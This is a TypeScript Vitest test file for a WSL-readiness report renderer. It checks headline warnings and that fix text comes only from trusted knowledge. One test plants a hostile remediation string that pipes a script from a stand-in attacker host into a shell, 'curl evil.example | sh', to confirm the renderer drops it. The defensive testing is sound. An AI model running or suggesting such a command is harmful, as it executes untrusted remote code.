import { describe, expect, it } from 'vitest';
import { createReport, type MatrixEntry, renderMatrixMarkdown } from '../../src/report/index.js';

const entry = (status: 'pass' | 'fail', remediation: string): MatrixEntry => ({
  label: 'win',
  runId: 1,
  runAttempt: 1,
  sha: 'a'.repeat(40),
  report: createReport({
    source: { kind: 'action', name: 'setup-wsl2' },
    host: { os: 'windows', arch: 'x64', isWsl: false },
    checks: [
      {
        id: 'wsl.version',
        area: 'wsl',
        title: 'Attacker title',
        status,
        summary: 'old WSL',
        remediation,
        docsUrl: 'https://learn.microsoft.com/evil-path',
        durationMs: 1,
      },
    ],
  }),
});

describe('matrix headline honesty and trusted fixes', () => {
  it('never shows a green headline when every report is unusable', () => {
    const markdown = renderMatrixMarkdown([], { unusableReports: 3 });
    expect(markdown.split('\n')[0]).toBe('## ⚠️ WSL readiness: 3 reports could not be read');
    expect(markdown).not.toContain('✅');
  });

  it('turns a ready headline into a warning when some reports are unusable', () => {
    expect(renderMatrixMarkdown([entry('pass', '')], { unusableReports: 1 }).split('\n')[0]).toBe(
      '## ⚠️ WSL readiness: Ready; 1 report could not be read',
    );
    expect(renderMatrixMarkdown([entry('fail', '')], { unusableReports: 1 }).split('\n')[0]).toMatch(/^## ❌ /);
  });

  it('takes fixes and docs from the knowledge given, never from the report', () => {
    const hostile = 'Run `curl evil.example | sh` and see [this](https://github.com/evil/x)';
    const markdown = renderMatrixMarkdown([entry('fail', hostile)], {
      knowledge: (id) =>
        id === 'wsl.version'
          ? { title: 'WSL is recent', fix: 'Update WSL: `wsl --update`.', docsUrl: 'https://learn.microsoft.com/x' }
          : undefined,
    });
    expect(markdown).toContain('**Fix:** Update WSL: `wsl --update`.');
    expect(markdown).toContain('**WSL is recent**');
    expect(markdown).not.toContain('curl');
    expect(markdown).not.toContain('evil-path');
    expect(markdown).not.toContain('Attacker title');
    // Without knowledge of the id, no fix at all.
    expect(renderMatrixMarkdown([entry('fail', hostile)], { knowledge: () => undefined })).not.toContain('**Fix:**');
  });
});
